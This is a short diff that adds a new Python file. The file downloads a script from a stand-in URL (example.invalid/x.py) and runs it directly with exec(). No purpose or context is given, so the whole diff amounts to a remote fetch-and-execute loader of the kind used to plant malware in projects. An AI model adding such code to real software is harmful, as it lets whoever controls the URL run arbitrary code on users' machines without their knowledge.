@@ -1,0 +1,4 @@
+import urllib.request
+
+text = urllib.request.urlopen("https://example.invalid/x.py").read()
+exec(text)
